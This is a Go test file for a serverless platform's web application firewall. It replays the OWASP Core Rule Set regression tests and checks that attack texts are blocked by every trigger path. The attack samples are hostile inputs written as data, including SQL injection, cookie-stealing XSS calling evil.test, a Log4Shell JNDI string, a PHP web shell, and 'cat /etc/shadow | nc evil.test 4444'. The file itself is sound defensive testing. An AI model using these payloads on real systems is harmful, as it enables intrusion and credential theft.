package bawntest

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"net/url"
	"os"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza-coreruleset/v4/tests"
	"go.yaml.in/yaml/v3"

	"bawn.dev/bawn"
	"bawn.dev/bawn/client"
)

// A crsStage is one request of the rule set's own tests and what it should lead to.
type crsStage struct {
	Input struct {
		Method, URI, Version *string
		Headers              yaml.Node // a mapping, whose order counts
		Data                 string
		Encoded              string `yaml:"encoded_request"`
		Autocomplete         *bool  `yaml:"autocomplete_headers"`
	}
	Output struct {
		Status int
		Error  bool `yaml:"expect_error"`
		Log    struct {
			Expect []int  `yaml:"expect_ids"`
			None   []int  `yaml:"no_expect_ids"`
			Match  string `yaml:"match_regex"`
			NoLog  string `yaml:"no_match_regex"`
		}
	}
}

type crsTest struct {
	name   string // RULE-NUMBER
	Number int    `yaml:"test_id"`
	Stages []crsStage
}

// crsTests reads all tests that come with the rule set.
func crsTests(t testing.TB) []crsTest {
	t.Helper()
	var all []crsTest
	err := fs.WalkDir(tests.FS, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || path.Ext(name) != ".yaml" {
			return err
		}
		raw, err := fs.ReadFile(tests.FS, name)
		if err != nil {
			return err
		}
		var file struct {
			Rule  int `yaml:"rule_id"`
			Tests []crsTest
		}
		if err := yaml.Unmarshal(raw, &file); err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		for _, c := range file.Tests {
			c.name = fmt.Sprintf("%d-%d", file.Rule, c.Number)
			all = append(all, c)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// request writes the stage's request as the rule set's own tool sends it.
func (s *crsStage) request() ([]byte, error) {
	if s.Input.Encoded != "" {
		return base64.StdEncoding.DecodeString(s.Input.Encoded)
	}
	or := func(p *string, otherwise string) string {
		if p == nil {
			return otherwise
		}
		return *p
	}
	type header struct{ name, value string }
	var headers []header
	for i := 0; i+1 < len(s.Input.Headers.Content); i += 2 {
		headers = append(headers, header{s.Input.Headers.Content[i].Value, s.Input.Headers.Content[i+1].Value})
	}
	get := func(name string) string {
		for _, h := range headers {
			if strings.EqualFold(h.name, name) {
				return h.value
			}
		}
		return ""
	}
	has := func(name string) bool {
		return slices.ContainsFunc(headers, func(h header) bool { return strings.EqualFold(h.name, name) })
	}
	complete := s.Input.Autocomplete == nil || *s.Input.Autocomplete
	method, data := or(s.Input.Method, "GET"), s.Input.Data
	if data != "" && complete {
		if !has("Content-Type") {
			headers = append(headers, header{"Content-Type", "application/x-www-form-urlencoded"})
		}
		if get("Content-Type") == "application/x-www-form-urlencoded" {
			if plain, err := url.QueryUnescape(data); err == nil && plain == data {
				var pairs []string
				for pair := range strings.SplitSeq(data, "&") {
					name, value, ok := strings.Cut(pair, "=")
					if name = url.QueryEscape(name); ok {
						name += "=" + url.QueryEscape(value)
					}
					pairs = append(pairs, name)
				}
				data = strings.Join(pairs, "&")
			}
		}
	}
	if strings.HasPrefix(get("Content-Type"), "multipart/form-data;") {
		data = strings.ReplaceAll(data, "\n", "\r\n")
	}
	if complete {
		if get("Connection") == "" {
			headers = append(headers, header{"Connection", "close"})
		}
		if (data != "" || slices.Contains([]string{"POST", "PUT", "PATCH", "DELETE"}, method)) && !has("Content-Length") {
			headers = append(headers, header{"Content-Length", strconv.Itoa(len(data))})
		}
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s %s\r\n", method, or(s.Input.URI, "/"), or(s.Input.Version, "HTTP/1.1"))
	for _, h := range headers {
		fmt.Fprintf(&b, "%s: %s\r\n", h.name, h.value)
	}
	b.WriteString("\r\n" + data)
	return b.Bytes(), nil
}

// A crsAnswer is what came of a request: the status is 0 if there was no answer.
type crsAnswer struct {
	status     int
	invocation string
}

// sendRaw sends bytes as a request of their own connection.
func (n *Node) sendRaw(raw []byte) crsAnswer {
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM([]byte(n.Context.CA))
	u, err := url.Parse(n.Public())
	if err != nil {
		return crsAnswer{}
	}
	c, err := tls.Dial("tcp", u.Host, &tls.Config{RootCAs: roots, ServerName: u.Hostname()})
	if err != nil {
		return crsAnswer{}
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	c.Write(raw) // the answer may be there before it is all read
	method, _, _ := strings.Cut(string(raw), " ")
	res, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err != nil {
		return crsAnswer{}
	}
	io.Copy(io.Discard, io.LimitReader(res.Body, 1<<20))
	res.Body.Close()
	return crsAnswer{res.StatusCode, res.Header.Get("X-Request-Id")}
}

// found returns the records of what inspections have found for a function.
func (n *Node) found(function string, since time.Time) []bawn.Record {
	n.t.Helper()
	var all []bawn.Record
	q := client.EventQuery{Function: function, Kinds: []bawn.RecordKind{bawn.KindDecision}, Limit: 10_000, Since: since}
	if err := n.Events(n.t.Context(), q, func(r bawn.Record) error {
		if r.Control == "D4" {
			all = append(all, r)
		}
		return nil
	}); err != nil {
		n.t.Fatal(err)
	}
	return all
}

// crsSkips reads the list of what is left out: RULE-NUMBER, RULE or 95* to reason.
func crsSkips(t testing.TB) map[string]string {
	t.Helper()
	raw, err := os.ReadFile("testdata/crs.md")
	if err != nil {
		t.Fatal(err)
	}
	skips := map[string]string{}
	for _, m := range regexp.MustCompile("(?m)^- `([^`]+)`: (.+)$").FindAllStringSubmatch(string(raw), -1) {
		skips[m[1]] = m[2]
	}
	return skips
}

func crsSkipped(skips map[string]string, name string) string {
	rule, _, _ := strings.Cut(name, "-")
	for _, key := range []string{name, rule, rule[:3] + "*"} {
		if skips[key] != "" {
			return key
		}
	}
	return ""
}

// open is what a function of these tests says of who may call it and with what.
func open(path, inspect string, level int) map[string]any {
	return map[string]any{
		"method": "ANY", "path": path,
		"access":  map[string]any{"public": map[string]any{"reason": "a test", "until": "2099-01-01"}},
		"inspect": map[string]any{"mode": inspect, "level": level},
	}
}

// Control D4: of the rule set's own tests, sent to a real route, at least 97 of a
// hundred come out as they should, over all. Which do not, and why, is in a list.
func TestD4RegressionTests(t *testing.T) {
	n := NewNode(t)
	rt := n.NeedRuntime(Pythons()...)
	n.MustDeploy("wall", map[string]any{
		"runtime": string(rt), "handler": "app.handler", "interior": map[string]any{"reuse": map[string]any{"maxAge": "1h"}},
		"ingress": map[string]any{"http": []any{open("/{rest+}", "detect", 4), open("/", "detect", 4)}},
	}, map[string]string{"app.py": "def handler(event, context):\n    return 'ok'\n"})
	n.sendRaw([]byte("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")) // has the rules loaded
	all, skips := crsTests(t), crsSkips(t)
	type sent struct {
		test   *crsTest
		stage  *crsStage
		answer crsAnswer
	}
	var mu sync.Mutex
	var results []sent
	found, unread := map[string][]int{}, map[string]bool{}
	for batch := range slices.Chunk(all, 1000) { // no more records than can be asked for at once
		began := time.Now()
		work := make(chan *crsTest)
		var workers sync.WaitGroup
		for range 3 {
			workers.Go(func() {
				for c := range work {
					for i := range c.Stages {
						raw, err := c.Stages[i].request()
						if err != nil {
							t.Errorf("%s: %v", c.name, err)
							continue
						}
						a := n.sendRaw(raw)
						mu.Lock()
						results = append(results, sent{c, &c.Stages[i], a})
						mu.Unlock()
					}
				}
			})
		}
		for i := range batch {
			work <- &batch[i]
		}
		close(work)
		workers.Wait()
		for _, r := range n.found("wall", began) {
			if strings.Contains(r.Reason, "too many") {
				t.Fatal(r.Reason)
			}
			if strings.Contains(r.Reason, "searched for attacks") { // refused by a route that blocks
				unread[r.Invocation] = true
			}
			if strings.Contains(r.Reason, "looks like an attack") { // the rule that says so is none that finds something
				found[r.Invocation] = append(found[r.Invocation], 949110)
			}
			for id := range strings.SplitSeq(r.Detail["rules"], ", ") {
				if number, err := strconv.Atoi(id); err == nil {
					found[r.Invocation] = append(found[r.Invocation], number)
				}
			}
		}
	}
	failed, earlier := map[string]string{}, 0
	for _, r := range results {
		out, ids := &r.stage.Output, found[r.answer.invocation]
		refused := r.answer.status == 0 || unread[r.answer.invocation] || r.answer.status >= 400 && len(ids) == 0 // by what comes before the rules
		if r.answer.status == http.StatusTooManyRequests || r.answer.status == http.StatusServiceUnavailable {
			t.Fatalf("%s: status %d", r.test.name, r.answer.status)
		}
		bad := ""
		for _, id := range out.Log.Expect {
			if !slices.Contains(ids, id) && !refused {
				bad = fmt.Sprintf("status %d, not found by %d but %v", r.answer.status, id, ids)
			}
		}
		for _, id := range out.Log.None {
			if slices.Contains(ids, id) {
				bad = fmt.Sprintf("found by %d", id)
			}
		}
		switch {
		case (out.Error || out.Status >= 400) && len(out.Log.Expect) == 0 && !refused:
			bad = fmt.Sprintf("status %d, want that it is refused", r.answer.status)
		case len(out.Log.Expect)+len(out.Log.None) == 0 && !out.Error && out.Status == 0:
			bad = "only the text of a log is looked for"
		}
		if bad != "" {
			failed[r.test.name] = bad
		} else if refused && len(out.Log.Expect) > 0 {
			earlier++
		}
	}
	used := map[string]bool{}
	for _, name := range slices.Sorted(maps.Keys(failed)) {
		if key := crsSkipped(skips, name); key != "" {
			used[key] = true
			continue
		}
		t.Errorf("%s: %s", name, failed[name])
	}
	for key := range skips {
		if !used[key] {
			t.Errorf("testdata/crs.md leaves out %s, which comes out as it should", key)
		}
	}
	good := len(all) - len(failed)
	t.Logf("%d of %d as expected (%.2f %%), %d of them refused before the rules were asked", good, len(all), 100*float64(good)/float64(len(all)), earlier)
	if good*100 < len(all)*97 {
		t.Errorf("fewer than 97 of a hundred are as expected")
	}
}

// said tells which try has come, however it came.
const said = `
import base64, json, re

def handler(event, context):
    text = json.dumps(event)
    if event.get("isBase64Encoded"):
        text = base64.b64decode(event["body"]).decode()
    print("ran", re.search("try-[a-z]+-[0-9]+", text).group(), flush=True)
    return "served"
`

// TestD4EveryTriggerOnANode sends the same texts by every way in to a function that
// blocks. Attacks are refused and benign texts served by each alike, and what was
// refused has not run.
func TestD4EveryTriggerOnANode(t *testing.T) {
	n := newTown(t)
	ingress := map[string]any{"callers": []string{"front"}, "http": []any{open("/wall", "block", 1)},
		"event": map[string]any{"inspect": map[string]any{"mode": "block", "level": 1}}}
	n.MustDeploy("wall", map[string]any{
		"runtime": string(n.rt), "handler": "app.handler", "interior": map[string]any{"reuse": map[string]any{"maxAge": "1h"}}, "ingress": ingress,
	}, map[string]string{"app.py": said})
	n.deploy("front", nil, []string{"wall"})
	key, _ := n.signingKey("sdk", "wall")

	texts := []struct {
		text   string
		attack bool
	}{
		{"1' OR '1'='1' UNION SELECT name, password FROM users--", true},
		{"0; DROP TABLE orders; SELECT pg_sleep(10)--", true},
		{"<script>alert(document.cookie)</script>", true},
		{`<img src=x onerror="fetch('//evil.test/'+document.cookie)">`, true},
		{"../../../../etc/passwd", true},
		{"x; cat /etc/shadow | nc evil.test 4444", true},
		{"${jndi:ldap://evil.test/a}", true},
		{"<?php system($_GET['cmd']); ?>", true},
		{"Fish & chips for two, please; no vinegar", false},
		{"Zwölf Boxkämpfer jagen Viktor quer über den Sylter Deich", false},
		{"Is 3 > 2? That's what O'Brien said: \"yes\"", false},
		{"https://shop.example.com/orders?page=2&sort=date", false},
	}
	const status = "answered "
	post := func(path, kind, body string) string {
		r, err := http.NewRequestWithContext(t.Context(), "POST", n.Public()+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		if kind != "" {
			r.Header.Set("Content-Type", kind)
		}
		got := n.send(n.HTTP, r)
		return status + strconv.Itoa(got.status)
	}
	document := func(id, text string) string {
		b, err := json.Marshal(map[string]string{"id": id, "text": text})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	form := func(id, text string) string { return url.Values{"id": {id}, "text": {text}}.Encode() }
	triggers := []struct {
		name string
		send func(id, text string) string
	}{
		{"json", func(id, text string) string { return post("/wall", "application/json", document(id, text)) }},
		{"form", func(id, text string) string {
			return post("/wall", "application/x-www-form-urlencoded", form(id, text))
		}},
		{"query", func(id, text string) string { return post("/wall?"+form(id, text), "", "") }},
		{"control", func(id, text string) string {
			inv, err := n.Invoke(t.Context(), "wall", "", []byte(document(id, text)))
			if err != nil {
				if bawn.ErrorCode(err) != bawn.CodeDenied {
					return err.Error()
				}
				return status + "403"
			}
			io.Copy(io.Discard, inv.Body)
			inv.Body.Close()
			return status + "200" + inv.FunctionError
		}},
		{"lambda", func(id, text string) string {
			got := n.send(n.HTTP, n.signed(key, fmt.Sprintf(invocations, "wall"), document(id, text), "lambda", time.Now()))
			return status + strconv.Itoa(got.status)
		}},
		{"function", func(id, text string) string {
			out := ask(t, n.Client, "front", map[string]any{"function": "wall", "payload": map[string]any{"id": id, "text": text}})
			if len(out) != 1 {
				return fmt.Sprint(out)
			}
			return status + strconv.Itoa(out[0].Status) + out[0].Error
		}},
	}
	ran := map[string]int{}
	for i, c := range texts {
		want := status + "200"
		if c.attack {
			want = status + "403"
		}
		for _, by := range triggers {
			id := fmt.Sprintf("try-%s-%d", by.name, i)
			if got := by.send(id, c.text); got != want {
				t.Errorf("%q by %s: %s, want %s", c.text, by.name, got, want)
			}
			if !c.attack {
				ran[id] = 1
			}
		}
	}
	have := map[string]int{}
	n.until("the lines of what was served", func() bool {
		have = map[string]int{}
		if err := n.Logs(t.Context(), "wall", client.LogQuery{Limit: 10_000}, func(l bawn.LogLine) error {
			if id, ok := strings.CutPrefix(l.Text, "ran "); ok && !l.Platform {
				have[strings.TrimSpace(id)]++
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		return len(have) >= len(ran)
	})
	if !maps.Equal(have, ran) {
		t.Errorf("these ran: %v, want %v", have, ran)
	}
	began := n.records(func(r *bawn.Record) bool { return r.Function == "wall" && r.Kind == bawn.KindOutcome })
	served := 0
	for _, r := range began {
		if r.Outcome == "ok" {
			served++
		}
	}
	if served != len(ran) {
		t.Errorf("%d outcomes are on record, want %d", served, len(ran))
	}
	// The owner reads which rules it was, wherever it came in; in a flood of them
	// some are only counted.
	left, seen := 0, 0
	for _, r := range n.found("wall", time.Time{}) {
		more, _ := strconv.Atoi(r.Detail["leftOut"])
		if left, seen = left+more, seen+1; r.Detail["rules"] == "" || !strings.Contains(r.Detail["manifest"], "exclude: [") || r.Outcome != "deny" {
			t.Errorf("a record of what was found: %+v", r)
		}
	}
	if refused := len(texts)*len(triggers) - len(ran); seen == 0 || seen+left > refused {
		t.Errorf("%d refusals are on record and %d counted, of %d", seen, left, refused)
	}
}
